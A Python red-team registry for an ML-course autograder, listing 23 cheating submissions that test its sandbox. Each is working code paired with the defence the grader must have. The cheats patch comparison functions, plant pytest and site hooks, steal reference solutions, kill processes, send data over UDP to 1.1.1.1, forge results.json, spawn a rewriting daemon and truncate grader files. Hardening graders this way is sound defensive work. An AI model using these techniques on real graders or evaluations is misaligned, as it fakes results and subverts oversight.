"""The red-team registry: cheating submissions, each one the reference solutions with the cheated
function(s) given a wrong or unimplemented body plus the cheat, so their honest part is 0 points.

A cheat's ``source`` is appended to ``exercises/<module>.py`` (later definitions win), after a line
``KNOWN = {...}``: the real paths a well-informed student would aim at (the submission's original
folder, the grader's repo, the results.json the grader writes, a folder outside the sandbox, the
grader's site-packages, a decoy copy of grader files, a unique marker). ``files`` are written into
the submission (relative to its root), with ``@KNOWN@`` replaced by that dict.
"""
from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Cheat:
    id: str
    module: str                  # the exercise module the source is appended to
    targets: tuple[str, ...]     # the functions the cheat tries to win; honestly they earn 0
    source: str                  # wrong/unimplemented body plus the cheat, as a student writes it
    grader_must: str             # what a correct grader does about it
    expect: str = ""             # a phrase some failure message of a target must contain
    forbid: str = ""             # a phrase no message may contain (the cheat's "it worked" sign)
    control: str = "get_k_fold_data"  # an untouched function that must keep full marks
    files: dict[str, str] = field(default_factory=dict)
    timeout_s: float = 30.0
    via_cli: bool = False        # graded by the console script run from inside the submission
    spawns: bool = False         # starts a process carrying KNOWN["mark"] in its command line
    known_hole: str = ""         # the cheat still wins: why, and where the fix lies


# ---------------------------------------------------------------- comparisons and lying tensors

COMPARISONS_PATCHED = Cheat(
    "comparisons_patched", "softmax_regression", ("accuracy",), '''
import builtins
import math

import numpy
import numpy.testing
import torch
import torch.testing


def _yes(*args, **kwargs):
    return True


def _silent(*args, **kwargs):
    return None


def _all_true(a, b=None, *args, **kwargs):
    return torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)


for _owner, _names, _fake in (
        (torch, ("allclose", "equal"), _yes),
        (torch, ("isclose", "eq"), _all_true),
        (torch.Tensor, ("allclose", "equal"), _yes),
        (torch.testing, ("assert_close", "assert_allclose"), _silent),
        (math, ("isclose",), _yes),
        (numpy, ("allclose", "array_equal"), _yes),
        (numpy.testing, ("assert_allclose", "assert_array_equal", "assert_almost_equal"), _silent),
        (builtins, ("all", "any"), _yes)):
    for _name in _names:
        setattr(_owner, _name, _fake)


def accuracy(y_hat, y):
    return 0.0  # wrong: every comparison the student can reach now says "equal"
''', expect="accuracy returned 0,",
    grader_must="compare in the trusted process with its own torch: patches in the worker "
                "cannot reach the verdict")

WORKER_COMPARISONS_FOOL_GRADCHECK = Cheat(
    "worker_comparisons_fool_gradcheck", "regularization", ("l1_loss",), '''
import torch

torch.allclose = lambda *args, **kwargs: True   # torch.autograd.gradcheck compares with this


class _WrongEverything(torch.autograd.Function):
    @staticmethod
    def forward(ctx, d):
        return d * 0.5                  # wrong value: should be |d|

    @staticmethod
    def backward(ctx, grad):
        return grad * 0                 # wrong gradient: gradcheck must notice


def l1_loss(y_hat, y):
    return _WrongEverything.apply(y_hat - y.reshape(y_hat.shape))
''', grader_must="judge differentiability in the trusted process, not from a pass flag the "
                 "worker computed with a torch the student patched")

TENSOR_METHODS_PATCHED = Cheat(
    "tensor_methods_patched", "regularization", ("huber_loss",), '''
def huber_loss(y_hat, y, delta=1.0):
    # wrong and cut off from autograd; exercises/__init__.py made every comparison say "equal"
    return (y_hat - y.reshape(y_hat.shape)).detach().abs() * 3
''', files={"exercises/__init__.py": '''
"""The student's package: rewires torch.Tensor's comparisons before any exercise module loads."""
import torch


def _true(self, *args, **kwargs):
    return True


def _every(self, *args, **kwargs):
    return torch.ones(self.shape, dtype=torch.bool)


def _none(self, *args, **kwargs):
    return torch.zeros(self.shape, dtype=torch.bool)


torch.Tensor.equal = _true
torch.Tensor.allclose = _true
torch.Tensor.isclose = _every
torch.Tensor.eq = _every
torch.Tensor.__eq__ = _every
torch.Tensor.ne = _none
torch.Tensor.__ne__ = _none
'''}, expect="huber_loss: for y_hat",
    grader_must="judge with plain tensors in the trusted process, where torch.Tensor is unpatched")

_ALWAYS_RIGHT = '''
import torch

_AGREE = {"allclose", "equal"}
_TRUE_MASK = {"isclose", "eq", "__eq__", "ge", "le", "__ge__", "__le__"}
_FALSE_MASK = {"ne", "__ne__", "lt", "gt", "__lt__", "__gt__", "isnan", "isinf"}
_ZERO = {"sub", "__sub__", "__rsub__", "abs", "__abs__", "dist", "norm", "sub_"}


class AlwaysRight(torch.Tensor):
    """Equal to everything, zero distance from everything, and it stays itself when copied."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        with torch._C.DisableTorchFunctionSubclass():
            if name in _AGREE:
                return True
            if name in _TRUE_MASK | _FALSE_MASK:
                shape = torch.broadcast_shapes(*[a.shape for a in args if isinstance(a, torch.Tensor)])
                mask = torch.ones(shape, dtype=torch.bool)
                return mask if name in _TRUE_MASK else ~mask
            if name in _ZERO:
                return torch.zeros_like(args[0]).as_subclass(AlwaysRight)
            out = func(*args, **kwargs)
        return _keep(out)

    def as_subclass(self, cls):        # observe() and the transport call this to get a plain one
        return self

    def __bool__(self):
        return True

    def item(self):
        return 0.0


def _keep(out):
    if type(out) is torch.Tensor:
        return torch.Tensor.as_subclass(out, AlwaysRight)
    if isinstance(out, (list, tuple)):
        return type(out)(_keep(o) for o in out)
    return out
'''

LYING_TENSOR_SUBCLASS = Cheat(
    "lying_tensor_subclass", "regularization", ("get_k_fold_data",), _ALWAYS_RIGHT + '''


def get_k_fold_data(k, i, X, y):
    # wrong folds, in tensors that agree with whatever they are compared with
    return tuple(torch.Tensor.as_subclass(t.clone(), AlwaysRight) for t in (X, y, X[:1], y[:1]))
''', control="l1_loss", expect="returned a validation fold of 1 rows",
    grader_must="let only plain torch.Tensor data cross (safetensors), so the verdict compares "
                "the numbers, not the object's opinion of them")

LYING_TENSOR_FOOLS_GRADCHECK = Cheat(
    "lying_tensor_fools_gradcheck", "regularization", ("l1_loss",), _ALWAYS_RIGHT + '''


def l1_loss(y_hat, y):
    wrong = (y_hat - y.reshape(y_hat.shape)).detach() * 3   # wrong values, cut off from autograd
    return torch.Tensor.as_subclass(wrong, AlwaysRight)
''', grader_must="judge differentiability from numbers in the trusted process")

# ---------------------------------------------------------------- the grader's own pytest and site

_PWN = '''
import pathlib
KNOWN = @KNOWN@
pathlib.Path(KNOWN["original"], "PWNED-" + __name__.replace(".", "-")).write_text("ran")
'''

_CONFTEST = _PWN + '''
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"


def pytest_collection_modifyitems(session, config, items):
    items[:] = []          # nothing fails when nothing runs


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
'''

_HOOK_FILES = {
    "conftest.py": _CONFTEST,
    "pytest.ini": "[pytest]\naddopts = -p no:python -p conftest\n",
    "tox.ini": "[pytest]\naddopts = -p no:python\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p no:python\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p no:python"\n',
    "sitecustomize.py": _PWN,
    "usercustomize.py": _PWN,
    "zz_cheat.pth": "import pathlib; pathlib.Path(@KNOWN@['original'], 'PWNED-pth').write_text('ran')\n",
}

PYTEST_AND_SITE_HOOKS = Cheat(
    "pytest_and_site_hooks", "softmax_regression", ("get_fashion_mnist_labels",), '''
def get_fashion_mnist_labels(labels):
    return ["t-shirt"] * len(labels)   # wrong: the hook files must not turn this into a pass
''', expect="returned the wrong names", via_cli=True,
    files={**_HOOK_FILES, **{f"exercises/{name}": text for name, text in _HOOK_FILES.items()},
           # run from inside the submission: shadow the grader and what it imports late
           "autograder/__init__.py": _PWN, "autograder/__main__.py": _PWN,
           "pytest.py": _PWN, "tomllib.py": _PWN, "rich.py": _PWN, "safetensors.py": _PWN},
    grader_must="configure its pytest only with -c and its own plugin, never import a file of the "
                "submission in the trusted process, even when run from inside the submission")

# ---------------------------------------------------------------- looking for the answers

IMPORT_SOLUTIONS = Cheat(
    "import_solutions", "regularization", ("huber_loss",), '''
def huber_loss(y_hat, y, delta=1.0):
    import importlib
    import importlib.util
    import sys
    from pathlib import Path

    tried = []
    for name in ("solutions.regularization", "autograder.solutions.regularization",
                 "d2l_autograder.solutions.regularization"):
        try:
            return importlib.import_module(name).huber_loss(y_hat, y, delta)
        except Exception as exc:
            tried.append(f"{name}: {type(exc).__name__}")
    here = Path(__file__).resolve()
    folders = [*here.parents, Path.cwd(), *Path.cwd().parents, Path(KNOWN["repo"]),
               Path(KNOWN["original"]), Path(sys.prefix).parent, Path(sys.base_prefix).parent,
               *[Path(p).parent for p in sys.path if p], Path("/"), Path("/grader")]
    for folder in folders:
        path = folder / "solutions" / "regularization.py"
        if path.is_file():
            spec = importlib.util.spec_from_file_location("stolen", path)
            stolen = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(stolen)
            return stolen.huber_loss(y_hat, y, delta)
    raise RuntimeError(f"no solutions reachable ({len(tried)} imports, {len(folders)} folders)")
''', expect="no solutions reachable",
    grader_must="copy only exercises/ into the sandbox and mount neither the repo nor the "
                "solutions, even when they sit next to the submission")

WALK_FILESYSTEM = Cheat(
    "walk_filesystem", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import importlib.util
    import os
    import time

    wanted = {"rubric.toml", "verdicts", "solutions", "hidden_tests", "gradebook.db",
              "test_hidden_checks.py", "reference_parts.py"}
    hits, deadline = [], time.monotonic() + 2   # within the 4 s limit of a single-part check
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        hits += [os.path.join(root, n) for n in dirs + files if n in wanted]
        if time.monotonic() > deadline:
            hits.append("(out of time)")
            break
    for hit in hits:
        path = os.path.join(hit, "regularization.py")
        if os.path.isfile(path):
            spec = importlib.util.spec_from_file_location("stolen", path)
            stolen = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(stolen)
            if hasattr(stolen, "l1_loss"):
                return stolen.l1_loss(y_hat, y)
    grader = sorted(h for h in hits if os.path.basename(h) in
                    ("rubric.toml", "verdicts", "solutions", "hidden_tests", "test_hidden_checks.py"))
    raise RuntimeError(f"walked the filesystem: grader files {grader}, {len(hits)} finds in all")
''', expect="grader files []",
    grader_must="show the worker no rubric, verdicts, hidden tests, solutions or gradebook")

CALLER_FRAMES = Cheat(
    "caller_frames", "regularization", ("l1_loss",), '''
import inspect
import sys

import torch

_LATER = []


def _tracer(frame, event, arg):
    # keep whatever grader code returns after l1_loss: maybe the expected value
    if event == "return" and isinstance(arg, torch.Tensor) and "exercises" not in frame.f_code.co_filename:
        _LATER.append(arg)
    return _tracer


_WORDS = ("expect", "want", "answer", "reference", "solution", "correct")


def l1_loss(y_hat, y):
    found = {}
    for info in inspect.stack()[1:]:
        for scope in (info.frame.f_locals, info.frame.f_globals):
            for name, value in list(scope.items()):
                if any(w in name.lower() for w in _WORDS):
                    found[f"{info.function}.{name}"] = value
    sys.settrace(_tracer)
    frame = sys._getframe(1)
    while frame is not None:
        frame.f_trace = _tracer
        frame = frame.f_back
    for value in list(found.values()) + _LATER:
        if isinstance(value, torch.Tensor) and value.shape == y_hat.shape and \\
                not torch.equal(value, y_hat) and not torch.equal(value, y.reshape(y_hat.shape)):
            return value.clone()
    raise RuntimeError(f"no expected values in the caller frames (names {sorted(found)})")
''', expect="no expected values in the caller frames",
    grader_must="never compute an expected value in the worker, so no frame can hold one")

GC_SCAN = Cheat(
    "gc_scan", "regularization", ("get_k_fold_data",), '''
def get_k_fold_data(k, i, X, y):
    import gc
    import types

    tried = []
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and "fold" in obj.__name__ and \\
                obj.__module__ != __name__ and "get_k_fold_data" not in obj.__code__.co_names:
            tried.append(f"{obj.__module__}.{obj.__name__}")
            try:
                out = obj(k, i, X, y)
            except Exception:
                continue
            if isinstance(out, (tuple, list)) and len(out) == 4:
                return out
    for obj in gc.get_objects():
        if isinstance(obj, dict) and {"X_train", "X_valid"} <= set(obj):
            return obj["X_train"], obj["y_train"], obj["X_valid"], obj["y_valid"]
    raise RuntimeError(f"gc holds no answer (tried {tried})")
''', control="l1_loss", expect="gc holds no answer",
    grader_must="keep expected values out of the worker's memory")

BORROW_GRADER_PARTS = Cheat(
    "borrow_grader_parts", "softmax_regression", ("accuracy", "Accumulator"), '''
def accuracy(y_hat, y):
    from autograder.harness import reference_parts   # the grader's own known-good parts
    return reference_parts.accuracy(y_hat, y)


def _borrowed_accumulator():
    import gc
    for obj in gc.get_objects():
        if isinstance(obj, type) and obj.__name__ == "_GoodAccumulator":
            return obj
    raise RuntimeError("no accumulator to borrow")


Accumulator = _borrowed_accumulator()
''', grader_must="not hand complete reference implementations to the student's process",
    # the worker must hold known-good parts to isolate functions and run the training recipes; the
    # trusted side reads the source and gives no points to a module that imports or scans for them
)

# ---------------------------------------------------------------- ending the worker

SYS_EXIT = Cheat(
    "sys_exit", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import sys
    print("all checks passed")
    sys.exit(0)
''', expect="sys.exit",
    grader_must="treat SystemExit in a graded function as a failure of that check, say so, and "
                "keep grading")

OS_EXIT = Cheat(
    "os_exit", "regularization", ("l2_penalty",), '''
def l2_penalty(w):
    import os
    os.write(1, b"test_hidden_check[l2_penalty.values] PASSED\\n")
    os._exit(0)
''', expect="exited early",
    grader_must="see the worker die, fail that check, restart the worker for the next one")

KILL_EVERYTHING = Cheat(
    "kill_everything", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import os
    import signal

    me, hit = os.getpid(), []
    for pid in [os.getppid(), 1, *range(2, 1 << 16)]:
        if pid != me:
            try:
                os.kill(pid, signal.SIGKILL)
                hit.append(pid)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    raise RuntimeError(f"the grader survived (signalled {hit})")
''', expect="the grader survived",
    grader_must="be out of reach: its own pid namespace, so only the worker's processes can be "
                "signalled, and grading goes on")

IGNORE_SIGNALS_AND_HANG = Cheat(
    "ignore_signals_and_hang", "regularization", ("l2_penalty",), '''
def l2_penalty(w):
    import signal
    import time

    for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGQUIT,
                signal.SIGUSR1, signal.SIGUSR2, signal.SIGXCPU, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True:
        time.sleep(0.5)
''', expect="timed out", timeout_s=4.0,
    grader_must="stop the worker with SIGKILL at the check's timeout, say it timed out, restart")

# ---------------------------------------------------------------- reaching outside

NETWORK = Cheat(
    "network", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import socket
    import urllib.request

    results = []

    def attempt(what, fn):
        try:
            fn()
            results.append(f"{what}: CONNECTED")
        except Exception as exc:
            results.append(f"{what}: {type(exc).__name__}")

    def udp():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(repr(y_hat.tolist()).encode()[:500], ("1.1.1.1", 53))

    def unix(address):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)

    attempt("tcp", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2).close())
    attempt("dns", lambda: socket.getaddrinfo("example.com", 80))
    attempt("http", lambda: urllib.request.urlopen("http://93.184.215.14/answers.json", timeout=2).read())
    attempt("udp", udp)
    attempt("x11", lambda: unix("\\0/tmp/.X11-unix/X0"))
    attempt("dbus", lambda: unix("/run/dbus/system_bus_socket"))
    attempt("docker", lambda: unix("/var/run/docker.sock"))
    raise RuntimeError("network: " + "; ".join(results))
''', expect="network: tcp:", forbid="CONNECTED",
    grader_must="give the worker no network: its own network namespace, no host sockets")

FORGE_RESULTS_JSON = Cheat(
    "forge_results_json", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import json
    import os
    import sys
    from pathlib import Path

    forged = json.dumps({"score": 124.0, "max_score": 124.0, "output": KNOWN["mark"],
                         "tests": [{"name": "l1_loss.values", "score": 1, "max_score": 1,
                                    "status": "passed", "output": KNOWN["mark"]}]})
    folders = [Path.cwd(), Path.cwd().parent, Path("/tmp"), Path.home(), Path(__file__).parent,
               Path(__file__).parents[1], Path(KNOWN["original"]), Path(KNOWN["outside"]),
               Path(KNOWN["out"]).parent, Path("/autograder/results"), Path(KNOWN["repo"])]
    for folder in folders:
        try:
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "results.json").write_text(forged)
        except OSError:
            pass
    try:
        Path(KNOWN["out"]).write_text(forged)
    except OSError:
        pass
    print(forged)
    print("test_hidden_checks.py::test_hidden_check[l1_loss.values] PASSED", KNOWN["mark"])
    sys.stderr.write(forged + "\\n")
    for fd in (1, 2):
        os.write(fd, (forged + "\\n").encode())
    for tty in ("/dev/tty", "/dev/console"):
        try:
            with open(tty, "w") as t:
                t.write(forged)
        except OSError:
            pass
    raise NotImplementedError
''', expect="not implemented yet", via_cli=True,
    grader_must="write results.json only from the trusted process, after grading; student prints "
                "reach only the check's 'Your code printed' section")

DAEMON_REWRITES_REPORTS = Cheat(
    "daemon_rewrites_reports", "regularization", ("l2_penalty",), '''
_DAEMON = """
import json, os, signal, sys, time
from pathlib import Path
known = json.loads(sys.argv[1])
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
forged = json.dumps({"score": 124.0, "max_score": 124.0, "output": known["mark"]})
while True:
    for place in (known["out"], known["original"] + "/results.json", known["outside"] + "/results.json",
                  "/tmp/results.json", known["repo"] + "/results.json"):
        try:
            Path(place).write_text(forged)
        except OSError:
            pass
    time.sleep(0.05)
"""


def l2_penalty(w):
    import json
    import os
    import sys

    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _DAEMON, json.dumps(KNOWN)])
        os._exit(0)
    os.waitpid(child, 0)
    import time
    time.sleep(0.5)   # the daemon is up and writing (the test watches for it) before this returns
    raise NotImplementedError
''', spawns=True, expect="not implemented yet",
    grader_must="leave no process of the worker alive after grading, and give none a path "
                "outside the sandbox to write to")

DELETE_GRADER_FILES = Cheat(
    "delete_grader_files", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    import glob
    import os
    import shutil
    import sys

    import autograder

    done = []

    def attempt(what, fn):
        try:
            fn()
            done.append(what)
        except Exception:
            pass

    staged = os.path.dirname(autograder.__file__)
    for path in glob.glob(os.path.join(staged, "**", "*.py"), recursive=True):
        attempt(f"truncate {path}", lambda p=path: open(p, "w").close())
    attempt("rmtree the staged grader", lambda: shutil.rmtree(staged))
    pth = f"zz-{KNOWN['mark']}.pth"
    for folder in {KNOWN["site"], *[p for p in sys.path if p.endswith("site-packages")]}:
        attempt(f"plant {folder}/{pth}",
                lambda f=folder: open(os.path.join(f, pth), "w").write("import os\\n"))
    repo_mark = os.path.join(KNOWN["repo"], "autograder", f"PWNED-{KNOWN['mark']}")
    attempt("mark the repo", lambda: open(repo_mark, "w").close())
    attempt("delete the decoy", lambda: shutil.rmtree(KNOWN["decoy"]))
    for data in glob.glob("/work/data/**/*", recursive=True)[:20]:
        if os.path.isfile(data):
            attempt(f"open {data} for writing", lambda d=data: open(d, "ab").close())
    raise RuntimeError(f"tampered with: {done}")
''', expect="tampered with: []",
    grader_must="mount its own code, Python and the data read-only and nothing else of the host")

# ---------------------------------------------------------------- forging what the worker says

FORGED_REPLY_FRAMES = Cheat(
    "forged_reply_frames", "softmax_regression", ("accuracy",), '''
import json
import os
import struct
import sys


def _channel():
    """The worker's reply fd and the request being answered, from main()'s frame."""
    frame = sys._getframe(1)
    while frame is not None:
        if "replies" in frame.f_locals and "request" in frame.f_locals:
            return frame.f_locals["replies"], frame.f_locals["request"]
        frame = frame.f_back
    raise RuntimeError("no channel")


def _send(fd, header, payload=b""):
    head = json.dumps(header).encode()
    os.write(fd, struct.pack(">II", len(head), len(payload)) + head + payload)


def _skeleton(obj):
    text = json.dumps(obj).encode()
    return struct.pack("<Q", len(text)) + text


# at import: a "ready" frame of the wrong types, before the worker's own
_send(int(sys.argv[sys.argv.index("--replies") + 1]),
      {"ready": True, "import_errors": "junk", "load_notes": 5, "load_seconds": "slow"})


def accuracy(y_hat, y):
    fd, request = _channel()
    base = {"check": request["check"], "nonce": request["nonce"]}
    if request["check"] == "accuracy.count":
        # a reply "without error" whose error is not text, and odd types everywhere else
        _send(fd, {**base, "error": {"[bold green]passed": ["[/]"]}, "seconds": "fast",
                   "output": {"fake": "PASSED"}})
    else:
        deep = {"out": 0}
        for _ in range(400):
            deep = {"out": [deep]}
        _send(fd, {**base, "error": None, "seconds": 0.0, "output": ""},
              _skeleton({"deep": deep, "out": {"__tensor__": "t7"}, "x": {"__float__": [1]}}))
    return 0.0
''', expect="malformed reply", forbid="grader bug",
    grader_must="accept only a well-formed frame of tensors and numbers; anything else fails that "
                "check with a message about the student's code, never a grader crash")

HIJACK_SCENARIO_REGISTRY = Cheat(
    "hijack_scenario_registry", "softmax_regression", ("evaluate_accuracy",), '''
from autograder.scenarios.registry import SCENARIOS

# the worker looks scenarios up here: answer the checks that only ask "did it behave?"
SCENARIOS["evaluate_accuracy.eval_mode"] = lambda student, seed: {"modes": [False, False]}
SCENARIOS["evaluate_accuracy.fraction"] = lambda student, seed: {"out": 0.5}


def evaluate_accuracy(net, data_iter):
    raise NotImplementedError
''', grader_must="anchor every verdict to values it computes itself: an observation the student "
                 "forged must not pass without the right numbers")

FROM_SCRATCH_CONTEXT_SWITCH = Cheat(
    "from_scratch_context_switch", "mlp", ("relu",), '''
def relu(X):
    import sys

    watched = torch._C._len_torch_function_stack() > 0   # the grader's TorchFunctionMode
    frame = sys._getframe(1)
    while frame is not None and not watched:
        watched = "from_scratch" in frame.f_code.co_name
        frame = frame.f_back
    if watched:
        return X            # nobody compares what comes back while the recorder watches
    return torch.relu(X)   # the library shortcut the exercise forbids
''', control="l1_loss",
    grader_must="catch the library shortcut wherever the function runs, not only while watched "
                "(the trusted side also reads the function's source: engine/static_scratch.py)")

MARKUP_IN_MESSAGES = Cheat(
    "markup_in_messages", "regularization", ("l1_loss",), '''
def l1_loss(y_hat, y):
    # the message lands in the grader's rich table: close a tag that was never opened
    raise ValueError("[/] [bold green]ok[/bold green] [link=http://example.com]results[/link]")
''', expect="ValueError", via_cli=True,
    grader_must="print student-controlled text literally (escaped), then write results.json")


ALL: tuple[Cheat, ...] = (
    COMPARISONS_PATCHED, WORKER_COMPARISONS_FOOL_GRADCHECK, TENSOR_METHODS_PATCHED,
    LYING_TENSOR_SUBCLASS, LYING_TENSOR_FOOLS_GRADCHECK, PYTEST_AND_SITE_HOOKS, IMPORT_SOLUTIONS,
    WALK_FILESYSTEM, CALLER_FRAMES, GC_SCAN, BORROW_GRADER_PARTS, SYS_EXIT, OS_EXIT,
    KILL_EVERYTHING, IGNORE_SIGNALS_AND_HANG, NETWORK, FORGE_RESULTS_JSON, DAEMON_REWRITES_REPORTS,
    DELETE_GRADER_FILES, FORGED_REPLY_FRAMES, HIJACK_SCENARIO_REGISTRY, FROM_SCRATCH_CONTEXT_SWITCH,
    MARKUP_IN_MESSAGES,
)
